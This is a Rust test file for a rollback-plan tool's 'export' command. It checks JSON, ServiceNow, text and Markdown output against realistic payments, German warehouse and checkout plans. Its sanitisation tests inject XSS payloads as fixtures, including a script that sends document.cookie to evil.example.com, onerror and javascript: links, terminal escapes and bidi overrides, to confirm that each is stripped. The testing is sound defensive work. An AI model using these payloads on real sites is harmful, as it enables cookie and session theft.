//! `backout export`: each format pinned on realistic plans (an English plan with an
//! irreversible migration and drill records, a German plan, a runbook whose steps are a
//! table), the JSON against its schema, refusal while check finds errors, untrusted text.

use crate::harness::{Run, TestRepo};

const PAYMENTS_PLAN: &str = "plans/payments/v1.5/plan.md";
const PAYMENTS_DRILLS: &str = "plans/payments/v1.5/drills";

const PAYMENTS_MANIFEST: &str = r#"team = "payments"
release = "v1.5"

[[items]]
id = "payments-api"
kind = "service"
version = "2.4.0"
previous = "2.3.1"

[[items]]
id = "ledger-worker"
kind = "service"
version = "1.8.0"
previous = "1.7.2"

[[items]]
id = "0042_add_ledger_index"
kind = "migration"
reversible = false
"#;

/// An approved plan for a release with an irreversible migration, steps under two
/// subsections, a verification table, an introduction and a section of its own.
const PAYMENTS: &str = r#"+++
team = "payments"
release = "v1.5"
status = "approved"
window = "72h"      # settlement runs nightly; after three runs we fix forward
duration = "45m"
[baseline]
from = "payments/v1.4"
commit = "4f1c0a9e8b7d6c5b4a39281706f5e4d3c2b1a098"
+++

# Backout plan: payments v1.5

Payments v1.5 moves settlement to the new ledger. Read this before the change window.

## Criteria
Roll back when the payment error rate stays above **2%** for 10 minutes after the
deployment, or when settlement files are not written by 06:00 UTC.

## Who decides?
The payments incident commander (PagerDuty schedule `payments-ic`) decides.<!-- reached via #payments-incidents -->

## Responsibilities
The on-call release engineer rolls back within 15 minutes of the decision.

## Rollback steps
Run every step from the bastion host.

### Application
1. Freeze deploys: `deployctl freeze payments --reason rollback`
2. Roll back `payments-api` to 2.3.1:
   ```sh
   helm rollback payments-api 41 -n payments
   kubectl -n payments rollout status deploy/payments-api
   ```
3. Roll back `ledger-worker` to 1.7.2 ([runbook](https://wiki.example.com/payments/ledger-worker#rollback)).

### Database
4. Leave `0042_add_ledger_index` in place: the old code ignores the index.
   - Check it does not slow writes: `psql payments -c "select * from pg_stat_user_indexes"`
5. Unfreeze deploys: `deployctl unfreeze payments`

## Verification
Place a test payment with the synthetic shopper: `shopper run --scenario pay-smoke`.

| Check | Expected |
|---|---|
| Error rate | below 0.5% |
| Settlement file | written by 06:00 |

## Communication
#payments-status before and after; the status page when customers are affected.

## Contingencies
If `0042_add_ledger_index` blocks writes, drop it: `psql payments -f db/undo/0042.sql`.
Last resort: the business continuity plan ([BCP](https://wiki.example.com/bcp)).

## Testing
Rehearsed on staging; see the drill records.

## Dependencies
The settlement bank's SFTP endpoint must accept the old file format (confirmed with them on 2026-11-18).
"#;

/// A drill record as `backout drill` writes it, of `procedure` (a hash).
fn drill_record(
    started: &str,
    finished: &str,
    result: &str,
    procedure: &str,
    outcomes: &[&str],
) -> String {
    let titles = [
        "Freeze deploys: `deployctl freeze payments --reason rollback`",
        "Roll back `payments-api` to 2.3.1:",
        "Roll back `ledger-worker` to 1.7.2 (runbook).",
        "Leave `0042_add_ledger_index` in place: the old code ignores the index.",
        "Unfreeze deploys: `deployctl unfreeze payments`",
    ];
    let mut text = format!(
        "# A drill of payments/v1.5, recorded by `backout drill` (see docs/drill.md).\nkind = \"drill\"\nby = \"Alex Doe\"\nenv = \"staging\"\nstarted = {started}\nfinished = {finished}\nresult = \"{result}\"\ncommit = \"9d2e7c4b1a0f8e6d5c4b3a29180716f5e4d3c2b1\"\nprocedure = \"{procedure}\"\n"
    );
    for (i, (title, outcome)) in titles.iter().zip(outcomes).enumerate() {
        text.push_str(&format!(
            "\n[[steps]]\nnumber = {}\ntext = {title:?}\noutcome = \"{outcome}\"\nat = {finished}\n",
            i + 1
        ));
        if *outcome == "failed" {
            text.push_str("note = \"helm could not reach the cluster\"\n");
        }
    }
    text
}

/// The hash of the Procedure of a plan text, as drills record it.
fn procedure_hash(text: &str) -> String {
    let id = backout::names::PlanId::new("payments", "v1.5");
    let plan = backout::plan::Plan::parse(text, &id);
    backout::drill::procedure_hash(text, &plan.body)
}

/// The payments repository: the plan, its manifest, a passing drill of this procedure and
/// a later one that failed.
fn payments() -> TestRepo {
    let repo = TestRepo::new();
    repo.write("backout.toml", "default_team = \"payments\"\n");
    repo.write("plans/payments/v1.5/manifest.toml", PAYMENTS_MANIFEST);
    repo.write(PAYMENTS_PLAN, PAYMENTS);
    let hash = procedure_hash(PAYMENTS);
    repo.write(
        &format!("{PAYMENTS_DRILLS}/2026-11-24T14-00-00Z.toml"),
        drill_record(
            "2026-11-24T14:00:00Z",
            "2026-11-24T14:38:00Z",
            "pass",
            &hash,
            &["done"; 5],
        ),
    );
    repo.write(
        &format!("{PAYMENTS_DRILLS}/2026-11-26T09-30-00Z.toml"),
        drill_record(
            "2026-11-26T09:30:00Z",
            "2026-11-26T09:41:00Z",
            "fail",
            &hash,
            &["done", "failed", "skipped", "skipped", "done"],
        ),
    );
    repo.commit("payments v1.5 plan and drills");
    repo
}

const LAGER_MANIFEST: &str = r#"team = "lager"
release = "v12.4"

[[items]]
id = "lvs-core"
kind = "service"
version = "12.4.0"
previous = "12.3.7"

[[items]]
id = "lvs_schema_2026_11"
kind = "migration"
reversible = false
"#;

/// A German plan: question headings, the template's titles, an irreversible migration.
const LAGER: &str = r#"+++
team = "lager"
release = "v12.4"
status = "approved"
window = "24h"
duration = "1h30m"
[tested]
on = 2026-11-19
result = "pass"
+++

# Backout-Plan: Lagerverwaltung v12.4

## Wann rollen wir zurück?
Wenn nach dem Deployment länger als 15 Minuten keine Kommissionieraufträge verbucht werden
oder die Fehlerquote der Scanner über 5 % liegt.

## Wer entscheidet?
Die Schichtleitung Logistik (Bereitschaftstelefon 0711 555 0100).

## Verantwortlichkeiten
Der Bereitschaftsdienst Anwendungsbetrieb, spätestens 20 Minuten nach der Entscheidung.

## Ablauf
1. Scanner-Clients in den Wartungsmodus setzen: `lvsctl maintenance on --all`
2. `lvs-core` auf 12.3.7 zurücksetzen:
   ```sh
   lvsctl install 12.3.7 --host lvs-prod-01
   lvsctl status --host lvs-prod-01
   ```
3. `lvs_schema_2026_11` bleibt bestehen: die Vorversion liest das neue Schema; prüfen mit
   `lvsctl schema check --host lvs-prod-01`
4. Wartungsmodus beenden: `lvsctl maintenance off --all`

## Verifikation
Einen Testauftrag im Lager Ost kommissionieren und die Buchung im Leitstand prüfen.

## Kommunikation
Vorher und nachher an die Schichtleitungen per E-Mail (Verteiler `lager-schicht@example.com`).

## Notfallmaßnahmen
`lvs_schema_2026_11` lässt sich nicht zurücknehmen: Sicherung vom Vorabend einspielen
([Anleitung](https://wiki.example.com/lager/restore)). Letzte Möglichkeit: Papierbetrieb nach Notfallhandbuch.

## Tests
Auf der Staging-Umgebung am 19.11. durchgespielt.
"#;

fn lager() -> TestRepo {
    let repo = TestRepo::new();
    repo.write("backout.toml", "default_team = \"lager\"\n");
    repo.write("plans/lager/v12.4/manifest.toml", LAGER_MANIFEST);
    repo.write("plans/lager/v12.4/plan.md", LAGER);
    repo.commit("lager v12.4");
    repo
}

const CHECKOUT_MANIFEST: &str = crate::harness::CHECKOUT_V32_MANIFEST;

/// A runbook whose procedure is a table: `check` counts no steps in it, so the manifest's
/// items are uncovered (errors), and the Testing section is still a placeholder.
const CHECKOUT: &str = r#"+++
team = "checkout"
release = "v3.2"
status = "draft"
window = "48h"
duration = "30m"
+++

# Rollback runbook: checkout v3.2

## Criteria
Payment success rate below 97% for 5 minutes, or carts cannot be saved.

## Decision
The checkout incident commander.

## Responsibilities
The on-call SRE, within 10 minutes.

## Procedure
| # | Step | Command |
|---|---|---|
| 1 | Roll back cart-service | `helm rollback cart-service 41 -n checkout` |
| 2 | Turn the cart_v2_schema flag off | `flagctl off cart_v2_schema` |

## Verification
`shopper run --scenario checkout-smoke`

## Communication
#checkout-status before and after.

## Contingencies
Route checkout to the standby cluster.

## Testing
TODO
"#;

fn checkout() -> TestRepo {
    let repo = TestRepo::new();
    repo.write("backout.toml", "default_team = \"checkout\"\n");
    repo.write("plans/checkout/v3.2/manifest.toml", CHECKOUT_MANIFEST);
    repo.write("plans/checkout/v3.2/plan.md", CHECKOUT);
    repo.commit("checkout v3.2 runbook");
    repo
}

fn export(repo: &TestRepo, spec: &str, format: &str) -> Run {
    repo.run(&["export", spec, "--format", format])
}

fn schema(name: &str) -> serde_json::Value {
    let path = format!("{}/docs/schemas/{name}", env!("CARGO_MANIFEST_DIR"));
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{path}: {e}"))
}

/// Asserts that `value` is valid under the schema in docs/schemas/`name`.
#[track_caller]
fn assert_valid(name: &str, value: &serde_json::Value) {
    let schema = schema(name);
    let validator = jsonschema::draft7::new(&schema)
        .unwrap_or_else(|e| panic!("docs/schemas/{name} is not a draft-07 schema: {e}"));
    let errors: Vec<String> = validator
        .iter_errors(value)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(
        errors.is_empty(),
        "not valid under {name}:\n{}",
        errors.join("\n")
    );
}

#[test]
fn json_is_the_plan_model_and_valid_under_its_schema() {
    let repo = payments();
    let run = export(&repo, "v1.5", "json");
    run.code(0);
    insta::assert_snapshot!("payments_json", run.stdout);
    let json = run.json();
    assert_valid("export.schema.json", &json);
    assert_eq!(json["version"], 1);
    assert_eq!(json["sections"][1]["title"], "Who decides?");
    assert_eq!(json["sections"][1]["kind"], "decision");
    assert_eq!(json["sections"][8]["kind"], serde_json::Value::Null);
    assert_eq!(json["drills"]["latest"]["result"], "fail");
    assert_eq!(json["drills"]["latest_passing"]["took"], "38m");
}

#[test]
fn every_section_kind_in_the_schema_is_a_canonical_name() {
    let schema = schema("export.schema.json");
    let kinds = schema["definitions"]["SectionKind"]["enum"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let names: Vec<&str> = backout::sections::Kind::ALL
        .iter()
        .map(|k| k.name())
        .collect();
    assert_eq!(kinds, names);
}

#[test]
fn the_schema_rejects_what_the_format_does_not_have() {
    let repo = payments();
    let mut json = export(&repo, "v1.5", "json").json();
    json["sections"][0]["colour"] = serde_json::json!("red");
    let schema = schema("export.schema.json");
    let validator = jsonschema::draft7::new(&schema).unwrap_or_else(|e| panic!("{e}"));
    assert!(!validator.is_valid(&json));
}

#[test]
fn servicenow_gives_the_change_request_fields() {
    let repo = payments();
    let run = export(&repo, "v1.5", "servicenow");
    run.code(0);
    let json = run.json();
    assert_valid("servicenow.schema.json", &json);
    let fields = [
        "short_description",
        "description",
        "backout_plan",
        "test_plan",
        "risk_impact_analysis",
    ];
    let keys: Vec<&str> = json
        .as_object()
        .map(|o| o.keys().map(String::as_str).collect())
        .unwrap_or_default();
    let mut sorted = fields.to_vec();
    sorted.sort_unstable();
    assert_eq!(keys, sorted, "exactly the five fields");
    let at: Vec<usize> = fields
        .iter()
        .map(|f| run.stdout.find(&format!("\"{f}\":")).unwrap_or_default())
        .collect();
    assert!(
        at.windows(2).all(|w| w[0] < w[1]),
        "in this order: {fields:?}"
    );
    // Each field as a change manager reads it.
    let mut shown = String::new();
    for key in fields {
        shown.push_str(&format!(
            "===== {key}\n{}\n",
            json[key].as_str().unwrap_or_default()
        ));
    }
    insta::assert_snapshot!("payments_servicenow", shown);
}

#[test]
fn text_is_the_whole_plan_for_any_ticket() {
    let repo = payments();
    let run = export(&repo, "v1.5", "text");
    run.code(0);
    insta::assert_snapshot!("payments_text", run.stdout);
}

#[test]
fn markdown_is_the_body_under_canonical_titles() {
    let repo = payments();
    let run = export(&repo, "v1.5", "markdown");
    run.code(0);
    insta::assert_snapshot!("payments_markdown", run.stdout);
}

#[test]
fn a_german_plan_exports_in_german() {
    let repo = lager();
    let text = export(&repo, "v12.4", "text");
    text.code(0);
    insta::assert_snapshot!("lager_text", text.stdout);
    let markdown = export(&repo, "v12.4", "markdown");
    markdown.code(0);
    insta::assert_snapshot!("lager_markdown", markdown.stdout);
    let servicenow = export(&repo, "v12.4", "servicenow");
    servicenow.code(0);
    let json = servicenow.json();
    insta::assert_snapshot!(
        "lager_risk",
        json["risk_impact_analysis"].as_str().unwrap_or_default()
    );
    assert_eq!(
        json["short_description"],
        "Release lager/v12.4: lvs-core 12.4.0, lvs_schema_2026_11"
    );
}

#[test]
fn a_plan_with_check_errors_is_refused() {
    let repo = checkout();
    let before = repo.snapshot();
    for format in ["json", "text", "markdown", "servicenow"] {
        let run = export(&repo, "v3.2", format);
        run.code(1);
        assert_eq!(run.stdout, "", "{format}: nothing on standard output");
        run.stderr_has("error[uncovered-item]: `## Procedure` has no steps (rows of a table are not steps)")
            .stderr_has("error[placeholder]")
            .stderr_has("refusing to export checkout/v3.2: check found 2 errors; fix them and run the export again, or pass --allow-errors to export it with them");
    }
    assert_eq!(repo.snapshot(), before, "export never writes");
}

#[test]
fn allow_errors_exports_and_says_so() {
    let repo = checkout();
    let run = repo.run(&["export", "v3.2", "--format", "text", "--allow-errors"]);
    run.code(0)
        .stderr_has("warning: exported checkout/v3.2 with 2 check errors (--allow-errors); `backout check checkout/v3.2` shows them");
    insta::assert_snapshot!("checkout_text_with_errors", run.stdout);

    let json = repo
        .run(&["export", "v3.2", "--format", "json", "--allow-errors"])
        .json();
    assert_valid("export.schema.json", &json);
    assert_eq!(json["check"]["errors"], 2);
    assert_eq!(json["steps"], serde_json::json!([]));
    let rules: Vec<&str> = json["check"]["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|f| f["rule"].as_str())
        .collect();
    assert_eq!(rules, ["uncovered-item", "placeholder"]);
}

#[test]
fn warnings_do_not_stop_an_export() {
    let repo = payments();
    // The latest passing drill followed an older procedure: `drill-stale` warns.
    repo.edit(
        PAYMENTS_PLAN,
        "Run every step from the bastion host.",
        "Run every step from the bastion host `bastion-2`.",
    );
    let run = export(&repo, "v1.5", "json");
    run.code(0)
        .stderr_has("note: payments/v1.5 has 1 warning; `backout check payments/v1.5` shows it");
    let json = run.json();
    assert_eq!(json["check"]["findings"][0]["rule"], "drill-stale");
    assert_eq!(
        json["drills"]["latest_passing"]["procedure_unchanged"],
        false
    );
    let quiet = repo.run(&["-q", "export", "v1.5", "--format", "json"]);
    quiet.code(0);
    assert_eq!(quiet.stderr, "");
}

/// Plan text arrives through pull requests: raw HTML, script links, terminal escapes and
/// bidirectional overrides must not reach a change record or a terminal.
#[test]
fn untrusted_plan_text_is_neutralised() {
    let repo = payments();
    let hostile = PAYMENTS.replace(
        "## Dependencies\n",
        "## Dependencies\n<script>fetch('https://evil.example.com/?c='+document.cookie)</script>\n\n<img src=x onerror=alert(1)> Click [here](javascript:alert(2)) or <JaVaScRiPt:alert(3)>.\nBell \u{7} and \u{1b}]0;owned\u{7} title, \u{202e}reversed\u{202c} text.\n\n",
    );
    repo.write(PAYMENTS_PLAN, hostile);
    // The bidirectional controls fail `check` (bidi-control): export only with --allow-errors.
    let export = |repo: &TestRepo, spec: &str, format: &str| {
        repo.run(&["export", spec, "--format", format, "--allow-errors"])
    };
    export(&repo, "v1.5", "text")
        .code(0)
        .stderr_has("with 1 check error (--allow-errors)");
    repo.run(&["check", "v1.5"])
        .code(1)
        .stdout_has("error[bidi-control]");
    for format in ["text", "servicenow", "markdown", "json"] {
        let run = export(&repo, "v1.5", format);
        run.code(0);
        let out = &run.stdout;
        for bad in ["\u{1b}", "\u{7}", "\u{202e}", "\u{202c}"] {
            assert!(!out.contains(bad), "{format} holds {bad:?}");
        }
        if format == "json" {
            continue;
        }
        let lower = out.to_lowercase();
        for bad in ["<script", "<img", "javascript:alert(2)", "(javascript"] {
            assert!(!lower.contains(bad), "{format} holds {bad:?}:\n{out}");
        }
    }
    let text = export(&repo, "v1.5", "text");
    text.stdout_has(
        "\nClick here or JaVaScRiPt:alert(3). Bell  and ]0;owned title, reversed text.\n",
    )
    .stdout_lacks("evil.example.com");
    let markdown = export(&repo, "v1.5", "markdown");
    markdown
        .stdout_has("&lt;script&gt;fetch(")
        .stdout_has("&lt;img src=x onerror=alert(1)&gt; Click here or JaVaScRiPt:alert(3).");
    let json = export(&repo, "v1.5", "json").json();
    let links: Vec<&str> = json["steps"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|s| s["links"].as_array().into_iter().flatten())
        .filter_map(|l| l["url"].as_str())
        .collect();
    assert_eq!(
        links,
        ["https://wiki.example.com/payments/ledger-worker#rollback"]
    );
}

#[test]
fn a_short_description_fits_servicenow() {
    let repo = TestRepo::new();
    repo.write("backout.toml", "default_team = \"platform\"\n");
    let mut manifest = String::from("team = \"platform\"\nrelease = \"2026.11\"\n");
    let mut steps = String::new();
    for i in 1..=30 {
        manifest.push_str(&format!(
            "\n[[items]]\nid = \"edge-proxy-region-{i:02}\"\nkind = \"infra\"\nversion = \"1.{i}.0\"\n"
        ));
        steps.push_str(&format!(
            "{i}. Roll back `edge-proxy-region-{i:02}`: `terraform apply -target=module.edge_{i:02}`\n"
        ));
    }
    repo.write("plans/platform/2026.11/manifest.toml", manifest);
    let plan = PAYMENTS
        .replace("team = \"payments\"", "team = \"platform\"")
        .replace("release = \"v1.5\"", "release = \"2026.11\"");
    let start = plan.find("Run every step").unwrap_or_default();
    let end = plan.find("## Verification").unwrap_or_default();
    let plan = format!("{}{steps}\n{}", &plan[..start], &plan[end..])
        .replace("`0042_add_ledger_index`", "the index")
        .replace("[baseline]\nfrom = \"payments/v1.4\"\ncommit = \"4f1c0a9e8b7d6c5b4a39281706f5e4d3c2b1a098\"\n", "");
    repo.write("plans/platform/2026.11/plan.md", plan);
    repo.commit("platform");
    let run = export(&repo, "2026.11", "servicenow");
    run.code(0);
    let short = run.json()["short_description"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(short.chars().count() <= 160, "{short}");
    assert!(
        short.starts_with("Release platform/2026.11: edge-proxy-region-01 1.1.0, "),
        "{short}"
    );
    assert!(short.ends_with(" more)"), "{short}");
}

#[test]
fn a_plan_is_named_by_its_directory_too() {
    let repo = payments();
    let by_spec = export(&repo, "payments/v1.5", "text");
    let here = repo.run_in(
        &repo.join("plans/payments/v1.5"),
        &["export", ".", "--format", "text"],
    );
    here.code(0);
    assert_eq!(here.stdout, by_spec.stdout);
}

#[test]
fn usage_and_missing_plans_exit_2() {
    let repo = payments();
    repo.run(&["export", "v1.5"])
        .code(2)
        .stderr_has("--format <FORMAT>");
    repo.run(&["export", "v1.5", "--format", "pdf"]).code(2);
    repo.run(&["export", "v9.9", "--format", "json"])
        .code(2)
        .stderr_has("plans/payments/v9.9/plan.md");
    let outside = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    repo.run_in(outside.path(), &["export", "v1.5", "--format", "json"])
        .code(2);
}

/// docs/schemas/ holds the schemas the code generates; `UPDATE_SCHEMAS=1 cargo test --test
/// cli schemas` rewrites them after a change to the export model.
#[test]
fn the_schemas_in_docs_are_generated_from_the_code() {
    for (name, schema) in [
        ("export.schema.json", backout::export::schema()),
        (
            "servicenow.schema.json",
            backout::export::servicenow_schema(),
        ),
    ] {
        let path = format!("{}/docs/schemas/{name}", env!("CARGO_MANIFEST_DIR"));
        let text = serde_json::to_string_pretty(&schema).unwrap_or_default() + "\n";
        if std::env::var_os("UPDATE_SCHEMAS").is_some() {
            std::fs::create_dir_all(format!("{}/docs/schemas", env!("CARGO_MANIFEST_DIR")))
                .unwrap_or_else(|e| panic!("{e}"));
            std::fs::write(&path, &text).unwrap_or_else(|e| panic!("{path}: {e}"));
        }
        let on_disk = std::fs::read_to_string(&path).unwrap_or_default();
        // `backout schema export|servicenow` prints the same document.
        let which = name.trim_end_matches(".schema.json");
        let printed = TestRepo::new().run(&["schema", which]);
        printed.code(0);
        assert_eq!(printed.stdout, text, "backout schema {which}");
        assert!(
            on_disk == text,
            "docs/schemas/{name} is not what the code generates; run `UPDATE_SCHEMAS=1 cargo test --test cli schemas` and commit it"
        );
    }
}

/// Only a required section is "not answered": a section of the plan's own that holds
/// nothing yet (a comment left for later) is shown as the empty section it is.
#[test]
fn an_empty_section_of_the_plans_own_is_not_called_unanswered() {
    let repo = payments();
    repo.edit(
        PAYMENTS_PLAN,
        "## Dependencies\n",
        "## Contacts\n<!-- names and numbers from the on-call sheet -->\n\n## Dependencies\n",
    );
    repo.commit("a place for contacts");
    let text = export(&repo, "v1.5", "text");
    text.code(0)
        .stdout_has("\nContacts\n--------\n\nDependencies\n------------\n")
        .stdout_lacks("(not answered)");
    let servicenow = export(&repo, "v1.5", "servicenow").json();
    let description = servicenow["description"].as_str().unwrap_or_default();
    assert!(
        description.contains("\nContacts\n--------\n\nDependencies\n------------\n"),
        "{description}"
    );
    assert!(!description.contains("(not answered)"), "{description}");
}

/// An image in a plan would be loaded by every ticket system that shows the change record
/// (a tracking pixel): the Markdown export keeps it as a link, which loads nothing.
#[test]
fn markdown_keeps_images_as_links_that_load_nothing() {
    let markdown = markdown_with_after_the_runbook_step(
        "   ![runbook diagram](https://wiki.example.com/payments/rollback.png) and ![pixel][t]\n\n[t]: https://track.example.com/p.gif\n",
    );
    markdown
        .code(0)
        .stdout_has(
            "[runbook diagram](https://wiki.example.com/payments/rollback.png) and [pixel][t]",
        )
        .stdout_lacks("![");
}

/// The Markdown export of the payments plan with `added` after the line of its step that
/// links the runbook.
fn markdown_with_after_the_runbook_step(added: &str) -> Run {
    let repo = payments();
    let step = "([runbook](https://wiki.example.com/payments/ledger-worker#rollback)).\n";
    let plan = repo.read(PAYMENTS_PLAN);
    assert!(plan.contains(step));
    repo.write(
        PAYMENTS_PLAN,
        plan.replacen(step, &format!("{step}{added}"), 1),
    );
    repo.run(&["export", "v1.5", "--format", "markdown", "--allow-errors"])
}

/// A link taken apart must not leave, or make, another: a reference definition to a script
/// goes, and `[[runbook]](javascript:…)` (whose inner `[runbook]` was a link of its own)
/// does not become a script link once its inner link is text.
#[test]
fn markdown_leaves_no_script_link_behind_a_reference() {
    let markdown = markdown_with_after_the_runbook_step(
        "   See [the old runbook][old] or [[old]](javascript:steal()).\n\n[old]: javascript:alert(document.cookie)\n",
    );
    markdown
        .code(0)
        .stdout_has("See the old runbook or old.")
        .stdout_has("[runbook](https://wiki.example.com/payments/ledger-worker#rollback)")
        .stdout_lacks("javascript:")
        .stdout_lacks("[old]");
}
